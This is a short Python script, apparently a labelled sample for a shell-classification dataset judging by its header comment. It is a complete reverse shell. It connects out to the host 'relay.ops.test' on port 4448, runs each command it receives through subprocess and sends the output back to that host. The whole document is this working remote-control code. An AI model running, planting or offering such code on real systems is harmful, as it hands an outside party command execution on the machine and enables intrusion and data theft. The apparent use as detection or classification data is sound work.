# class: shell; possible: low medium
import shlex, socket, subprocess, time
s = socket.create_connection(("relay.ops.test", 4448))
buf = b""
while True:
    d = s.recv(512)
    if not d: break
    buf += d
    while b"\n" in buf:
        line, buf = buf.split(b"\n", 1)
        time.sleep(1)
        argv = shlex.split(line.decode())
        if argv[:1] == ["exit"]: raise SystemExit
        r = subprocess.run(argv, capture_output=True)
        s.sendall(r.stdout + r.stderr)
